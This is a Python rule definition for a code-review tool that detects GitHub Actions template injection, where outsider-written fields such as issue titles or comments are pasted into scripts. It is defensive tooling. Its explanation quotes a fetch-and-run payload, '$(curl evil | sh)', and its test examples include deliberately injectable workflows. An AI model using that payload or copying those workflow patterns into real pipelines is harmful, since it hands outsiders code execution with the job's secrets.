"""ci-template-injection: text that outsiders write is pasted into a script."""

from collections.abc import Iterable
from dataclasses import replace

from readylayer_cli.code.source import SourceFile
from readylayer_cli.domain.grades import Confidence, Severity
from readylayer_cli.domain.patterns import lazy_pattern
from readylayer_cli.engines.review.rule import Example, FileRule, Match
from readylayer_cli.engines.review.rules.ci._workflow import (
    OUTSIDER_TRIGGERS,
    WORKFLOW_OR_ACTION_PATH,
    line_match,
    read_workflow,
    script_line,
)
from readylayer_cli.engines.review.rules.ci._yaml import YamlNode

_EXPRESSION = lazy_pattern(r"\$\{\{([^}]{1,400})\}\}")
_OUTSIDE_TEXT = lazy_pattern(
    r"github\.event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.(?:ref|label|repo\.(?:default_branch|description|homepage)))"
    r"|(?:comment|review|review_comment)\.body|discussion\.(?:title|body)|pages\.[\w*]+\.page_name"
    r"|(?:commits\.?[^.\s]*|head_commit|workflow_run\.head_commit)\.(?:message|author\.(?:name|email))"
    r"|workflow_run\.(?:head_branch|display_title|pull_requests\.?[^.\s]*\.head\.ref))\b|github\.head_ref\b",
)
_ENVIRONMENT = lazy_pattern(r"\benv\.(\w+)")
_ANSWER = lazy_pattern(r"\b(?:contains|startsWith|endsWith|hashFiles)\s*\(|==|!=")


def check(file: SourceFile) -> Iterable[Match]:
    workflow = read_workflow(file)
    if workflow is None:
        return
    severity = Severity.HIGH if workflow.triggers & OUTSIDER_TRIGGERS or not workflow.triggers else Severity.MEDIUM
    for job, step in workflow.steps():
        tainted = _tainted_environment([workflow.root, job.node, step.node])
        for script in step.scripts():
            for match in _expressions(file, script, tainted):
                yield replace(match, severity=severity, symbol=job.name)


def _tainted_environment(holders: Iterable[YamlNode]) -> frozenset[str]:
    found = set()
    for holder in holders:
        environment = holder.get("env")
        for name, value in environment.pairs() if environment is not None else ():
            if _EXPRESSION.search(value.text) and _OUTSIDE_TEXT.search(value.text) and not _ANSWER.search(value.text):
                found.add(name)
    return frozenset(found)


def _expressions(file: SourceFile, script: YamlNode, tainted: frozenset[str]) -> Iterable[Match]:
    for found in _EXPRESSION.finditer(script.text):
        outside = _OUTSIDE_TEXT.search(found[1])
        variable = _ENVIRONMENT.search(found[1])
        source = outside[0] if outside else variable[0] if variable and variable[1] in tainted else ""
        if source and not _ANSWER.search(found[1]):
            message = f"`{source}` is written by outsiders and becomes part of this script"
            yield line_match(file, script_line(file, script, found[0]), message)


_PATH = ".github/workflows/triage.yml"
_HEAD = "jobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"

RULE = FileRule(
    id="ci-template-injection",
    title="Text written by outsiders becomes part of a script",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    cwe=("CWE-94", "CWE-78"),
    languages=("yaml",),
    path_pattern=WORKFLOW_OR_ACTION_PATH,
    triggers=("${{",),
    what="`${{ github.event.issue.title }}` or another text that anybody can choose, inside `run:` or a `github-script`.",
    why="The runner pastes the text before the shell reads it, so a title such as `$(curl evil | sh)` is executed with "
    "the job's token and secrets.",
    fix="Pass it through the environment: `env: {TITLE: '${{ github.event.issue.title }}'}`, then use `\"$TITLE\"`.",
    check=check,
    bad=(
        Example("on: issues\n" + _HEAD + '      - run: echo "${{ github.event.issue.title }}"\n', _PATH),
        Example(
            "on: [pull_request_target]\n"
            + _HEAD
            + "      - run: |\n          set -e\n          git push origin HEAD:${{ github.head_ref }}\n",
            _PATH,
        ),
        Example(
            "on: issue_comment\n" + _HEAD + "      - uses: actions/github-script@v7\n        with:\n"
            "          script: |\n            const body = '${{ github.event.comment.body }}'\n",
            _PATH,
        ),
        Example(
            "on: issues\nenv:\n  TITLE: ${{ github.event.issue.title }}\n"
            + _HEAD
            + "      - run: echo ${{ env.TITLE }}\n",
            _PATH,
        ),
    ),
    good=(
        Example(
            "on: issues\n" + _HEAD + "      - env:\n          TITLE: ${{ github.event.issue.title }}\n"
            '        run: echo "$TITLE"\n',
            _PATH,
        ),
        Example("on: pull_request\n" + _HEAD + "      - run: echo ${{ github.event.pull_request.number }}\n", _PATH),
        Example(
            "on: issue_comment\n" + _HEAD + "      - run: echo ${{ contains(github.event.comment.body, 'x') }}\n", _PATH
        ),
    ),
)
